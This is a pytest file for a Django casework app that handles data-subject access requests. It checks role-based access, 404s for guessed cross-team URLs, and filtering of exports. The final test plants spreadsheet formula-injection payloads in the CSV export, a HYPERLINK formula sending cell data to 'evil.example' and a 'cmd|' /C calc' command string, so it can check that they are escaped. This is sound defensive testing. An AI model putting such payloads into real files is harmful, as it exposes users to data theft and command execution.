"""Every casework view, download, attachment and export, walked by every role."""
from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from dsar.cases.models import Event
from dsar.casework.models import Batch

# (url name, kwargs from the cast's team-A objects)
CASE_PAGES = [
    ("casework:case", lambda c: {"case_id": c.case_a.pk}),
    ("casework:case_calendar", lambda c: {"case_id": c.case_a.pk}),
    ("casework:case_delete", lambda c: {"case_id": c.case_a.pk}),
    ("casework:request_action", lambda c: {"case_id": c.case_a.pk, "request_id": c.request_a.pk}),
    ("casework:request_letter", lambda c: {"case_id": c.case_a.pk, "request_id": c.request_a.pk}),
    ("casework:event_attachment", lambda c: {"case_id": c.case_a.pk, "event_id": c.event_a.pk}),
]
CASE_POSTS = [
    ("casework:case_note", lambda c: {"case_id": c.case_a.pk}, {"text": "Called the person."}),
    ("casework:case_assign", lambda c: {"case_id": c.case_a.pk}, {"assignee": ""}),
]
BATCH_PAGES = ["casework:batch", "casework:batch_progress", "casework:batch_letters_zip"]
ROLES_ALLOWED = [("worker_a", True), ("coordinator_a", True), ("staff", True), ("worker_b", False)]


def login(client, user):
    client.force_login(user)
    return client


@pytest.mark.parametrize("name,kwargs", CASE_PAGES)
def test_it_sends_anonymous_visitors_of_case_pages_to_the_login(client, cast, name, kwargs):
    response = client.get(reverse(name, kwargs=kwargs(cast)))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize("role,allowed", ROLES_ALLOWED)
@pytest.mark.parametrize("name,kwargs", CASE_PAGES)
def test_it_shows_case_pages_to_the_team_and_staff_only(client, cast, name, kwargs, role, allowed):
    response = login(client, getattr(cast, role)).get(reverse(name, kwargs=kwargs(cast)))
    assert response.status_code == (200 if allowed else 404)


@pytest.mark.parametrize("role,allowed", ROLES_ALLOWED)
@pytest.mark.parametrize("name,kwargs,data", CASE_POSTS)
def test_it_accepts_case_changes_from_the_team_and_staff_only(client, cast, name, kwargs, data, role, allowed):
    notes_before = Event.objects.filter(kind=Event.Kind.NOTE).count()
    response = login(client, getattr(cast, role)).post(reverse(name, kwargs=kwargs(cast)), data)
    assert response.status_code == (302 if allowed else 404)
    expected_notes = notes_before + (1 if allowed and name == "casework:case_note" else 0)
    assert Event.objects.filter(kind=Event.Kind.NOTE).count() == expected_notes


@pytest.mark.parametrize("name,kwargs", [(n, k) for n, k, _d in CASE_POSTS])
def test_it_sends_anonymous_case_changes_to_the_login(client, cast, name, kwargs):
    response = client.post(reverse(name, kwargs=kwargs(cast)), {"text": "x"})
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))
    assert not Event.objects.filter(kind=Event.Kind.NOTE).exists()


def test_it_returns_404_for_another_teams_attachment_through_an_own_case(client, cast):
    """A guessed attachment URL: B's own case id with A's event id."""
    url = reverse("casework:event_attachment", kwargs={"case_id": cast.case_b.pk, "event_id": cast.event_a.pk})
    assert login(client, cast.worker_b).get(url).status_code == 404
    own = reverse("casework:event_attachment", kwargs={"case_id": cast.case_b.pk, "event_id": cast.event_b.pk})
    assert client.get(own).status_code == 200


def test_it_returns_404_for_another_teams_letter_through_an_own_case(client, cast):
    url = reverse("casework:request_letter", kwargs={"case_id": cast.case_b.pk, "request_id": cast.request_a.pk})
    assert login(client, cast.worker_b).get(url).status_code == 404


def test_it_returns_404_for_a_guessed_case_id(client, cast):
    url = reverse("casework:case", kwargs={"case_id": cast.case_b.pk + 1000})
    assert login(client, cast.staff).get(url).status_code == 404


def test_it_leaves_other_teams_cases_out_of_the_deadline_export(client, cast):
    response = login(client, cast.worker_b).get(reverse("casework:deadlines_export"))
    body = response.content.decode()
    assert response.status_code == 200
    assert cast.case_b.reference in body and cast.case_a.reference not in body


def test_it_exports_every_teams_deadlines_to_staff(client, cast):
    body = login(client, cast.staff).get(reverse("casework:deadlines_export")).content.decode()
    assert cast.case_a.reference in body and cast.case_b.reference in body


def test_it_sends_anonymous_exports_to_the_login(client, cast):
    response = client.get(reverse("casework:deadlines_export"))
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))


def test_it_leaves_other_teams_cases_out_of_the_queue(client, cast):
    body = login(client, cast.worker_b).get(reverse("casework:queue")).content.decode()
    assert cast.case_b.reference in body and cast.case_a.reference not in body


@pytest.fixture
def batch_a(cast):
    return Batch.objects.create(team=cast.team_a, created_by=cast.worker_a, label="Chapel Quad")


@pytest.mark.parametrize("role,allowed", ROLES_ALLOWED)
@pytest.mark.parametrize("name", BATCH_PAGES)
def test_it_shows_batches_to_the_team_and_staff_only(client, cast, batch_a, name, role, allowed):
    response = login(client, getattr(cast, role)).get(reverse(name, kwargs={"batch_id": batch_a.pk}))
    assert response.status_code == (200 if allowed else 404)


@pytest.mark.parametrize("name", BATCH_PAGES)
def test_it_sends_anonymous_batch_visitors_to_the_login(client, cast, batch_a, name):
    response = client.get(reverse(name, kwargs={"batch_id": batch_a.pk}))
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize("role,status", [("worker_a", 404), ("worker_b", 404), ("staff", 200)])
def test_it_shows_the_staff_dashboard_to_staff_only(client, cast, role, status):
    assert login(client, getattr(cast, role)).get(reverse("casework:staff_dashboard")).status_code == status


def test_it_sends_anonymous_staff_dashboard_visitors_to_the_login(client, cast):
    response = client.get(reverse("casework:staff_dashboard"))
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))


def test_it_neutralises_formulas_in_the_deadline_export(client, cast):
    from dsar.cases.models import DataSubject

    subject = DataSubject.objects.get(pk=cast.case_a.data_subject_id)
    subject.name = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    subject.save(update_fields=["name"])
    cast.request_a.organisation.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    cast.request_a.organisation.save(update_fields=["name"])

    body = login(client, cast.worker_a).get(reverse("casework:deadlines_export")).content.decode()

    [row] = list(csv.DictReader(io.StringIO(body)))
    assert row["name"] == "'" + subject.name
    assert row["recipient"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
